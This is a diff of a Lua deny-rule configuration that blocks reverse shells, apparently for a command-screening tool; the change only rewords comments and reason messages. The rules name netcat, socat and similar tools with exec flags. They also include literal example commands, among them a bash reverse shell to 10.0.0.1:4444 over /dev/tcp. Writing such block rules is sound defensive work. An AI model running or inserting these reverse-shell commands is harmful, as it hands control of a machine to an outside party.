@@ -1,5 +1,5 @@
--- What goes out to other machines, and who may come in. Getting something with curl or wget is
--- free, and so is everything on this machine itself.
+-- What leaves for other machines, and what lets them in. Downloading with curl or wget is free, and
+-- so is everything on this machine itself.
 local LOCAL = {
   'localhost', '127.*', '::1', '0.0.0.0', '*.localhost', 'host.docker.internal', '0',
   'ip6-localhost',
@@ -9,7 +9,7 @@ return {
   {
     id = 'network.reverse_shell',
     decision = 'deny',
-    reason = 'This gives somebody else a shell on this machine: use ssh from there.',
+    reason = 'This gives another machine a shell on this one: use ssh from there.',
     program = 'nc ncat netcat nc.openbsd nc.traditional socat telnet openssl',
     argument = {
       '-e', '-c', '--exec*', '--sh-exec*', '-e*', 're:-[a-z]*e', 're:(?i)exec:.*',
@@ -27,7 +27,7 @@ return {
   {
     id = 'network.shell_device',
     decision = 'deny',
-    reason = 'This gives somebody else a shell on this machine: use ssh from there.',
+    reason = 'This gives another machine a shell on this one: use ssh from there.',
     program = 'sh bash dash zsh ksh exec',
     path = 'network_device',
     match = { 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'exec 5<>/dev/tcp/example.com/80' },
